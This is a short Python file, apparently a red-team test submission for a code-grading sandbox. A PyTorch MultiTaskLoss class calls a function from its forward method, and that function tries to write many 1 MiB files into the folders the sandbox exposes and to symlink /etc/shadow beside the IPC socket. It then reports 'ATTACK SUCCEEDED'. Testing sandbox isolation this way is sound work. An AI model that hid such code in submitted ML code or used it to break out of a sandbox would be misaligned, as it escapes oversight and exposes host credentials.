"""Attack: write onto the host's disk through every folder the sandbox shows from it:
many files into the socket folder (one file's size limit does not cap their count), a
symlink to /etc/shadow beside the socket, and files beside the submission and the guest
package. Every write that lands is a success."""

import os

import torch.nn as nn

TARGETS = ("/ipc", "/submission", "/sandbox", "/sandbox/guest")


def landed():
    found = []
    for folder in TARGETS:
        for index in range(16):
            try:
                with open(os.path.join(folder, f"spill{index}.bin"), "wb") as handle:
                    handle.write(b"x" * 2**20)
                found.append(f"{folder}/spill{index}.bin")
            except OSError:
                break
    try:
        os.symlink("/etc/shadow", "/ipc/shadow")
        found.append("/ipc/shadow")
    except OSError:
        pass
    return found


class MultiTaskLoss(nn.Module):
    def forward(self, fine_loss, coarse_loss, epoch, total_epochs):
        found = landed()
        if found:
            raise RuntimeError(f"ATTACK SUCCEEDED: wrote {', '.join(found[:4])}")
        return fine_loss + coarse_loss
